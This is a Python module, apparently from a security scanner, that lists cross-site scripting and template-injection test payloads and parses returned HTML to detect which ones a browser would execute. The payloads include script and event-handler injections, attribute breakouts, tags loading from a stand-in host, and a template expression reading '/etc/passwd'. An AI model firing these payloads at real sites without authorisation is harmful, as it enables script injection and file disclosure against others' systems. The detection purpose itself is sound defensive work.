"""What strangers type to smuggle in a script or a template, and who reads a page as a browser would to see whether it came through."""

from html.parser import HTMLParser

MARK = "xq7"  # in the part of each that would run
_PLAIN = [
    "<script>xq7()</script>", "<ScRiPt>xq7()</sCrIpT>", "<script src=//xq7.example></script>", "<img src=x onerror=xq7()>",
    "<img src onerror=xq7()>", "<svg onload=xq7()>", "<svg/onload=xq7()>", "<svg><script>xq7()</script></svg>", "<body onload=xq7()>",
    "<iframe src=javascript:xq7()>", "<iframe srcdoc='xq7'>", "<object data=//xq7.example>", "<embed src=//xq7.example>",
    "<a href=javascript:xq7()>x</a>", "<a href=JaVaScRiPt:xq7()>x</a>", "<form action=//xq7.example>", "<button formaction=//xq7.example>",
    "<input autofocus onfocus=xq7()>", "<select autofocus onfocus=xq7()>", "<details open ontoggle=xq7()>", "<video onerror=xq7()><source>",
    "<audio src onerror=xq7()>", "<marquee onstart=xq7()>", "<meta http-equiv=refresh content=//xq7.example>",
    "<base href=//xq7.example>", "<link rel=stylesheet href=//xq7.example>", "<style>@import'//xq7.example'</style>", "<xq7 onclick=1>",
    "<math><mtext><xq7>",
    "<template><xq7></template>", "<noscript><xq7></noscript>", "<!--><xq7>-->", "<![CDATA[<xq7>]]>", "<?xq7 ?>", "<p style=x:xq7>",
]  # fmt: skip
_OUT_OF_PLACE = [
    '"><xq7>', "'><xq7>", '" onmouseover=xq7() x="', "' onmouseover=xq7() x='", '" autofocus onfocus="xq7()', "</title><xq7>",
    "</textarea><xq7>", "</script><xq7>", "</style><xq7>", "--><xq7>", "]]><xq7>", "`-xq7()-`", "';xq7()//", '";xq7()//', "\\';xq7()//",
    "</option></select><xq7>", "javascript:xq7()", "data:text/html,<xq7>", "&lt;xq7&gt;", "&#60;xq7&#62;", "%3Cxq7%3E",
]  # fmt: skip
_TEMPLATES = [
    '{{1336|add:"1"}}xq7', "{{1336+1}}xq7", "{% now 'Y' %}xq7", "{% load x %}xq7", "{{xq7}}", "${1336+1}xq7", "#{1336+1}xq7",
    "<%=1336+1%>xq7", "#(1336+1)xq7", "%(xq7)s", "{0}xq7", "{xq7.__class__}", '#read("/etc/passwd")xq7', '#link("javascript:xq7")[x]',
]  # fmt: skip
PAYLOADS = [*_PLAIN, *_OUT_OF_PLACE, *_TEMPLATES]
EVALUATED = "1337" + MARK
OPENED = {"href", "src", "action", "content", "formaction", "data", "poster", "srcset", "xlink:href"}


class Reader(HTMLParser):
    """Collects what of the payloads a browser would run, load or take for part of the page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.smuggled: list[str] = ["a template was run"] if EVALUATED in page else []
        self.within = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kind = dict(attrs).get("type") or ""
        self.within = tag if tag in {"script", "style"} and "json" not in kind else ""
        if MARK in tag:
            self.smuggled.append(f"<{tag}>")
        self.smuggled += [f"<{tag} {name}={value}>" for name, value in attrs if self.runs(name, value or "")]

    def runs(self, name: str, value: str) -> bool:
        if MARK in name:
            return True
        code = name.startswith(("on", "x-", "@", ":", "hx-on", "style", "srcdoc"))
        place = name in OPENED and value.strip().casefold().startswith(("javascript:", "data:", "//" + MARK))
        return MARK in value and (code or place)

    def handle_endtag(self, tag: str) -> None:
        self.within = "" if tag == self.within else self.within

    def handle_data(self, data: str) -> None:
        if self.within and MARK in data:
            self.smuggled.append(f"within <{self.within}>: {data[max(0, data.index(MARK) - 30) :][:80]}")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.smuggled.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.handle_comment(decl)

    def handle_pi(self, data: str) -> None:
        self.handle_comment(data)

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)


def packed(longest: int, start: int) -> tuple[str, int]:
    """As many payloads one behind the other as fit, from one on; and how many those are."""
    fitting = [each for each in PAYLOADS if len(each) <= longest]
    if not fitting:
        return MARK[:longest], 0
    words, taken = fitting[start % len(fitting)], 1
    while taken < len(fitting) and len(words) + len(following := fitting[(start + taken) % len(fitting)]) < longest:
        words, taken = f"{words} {following}", taken + 1
    return words, taken
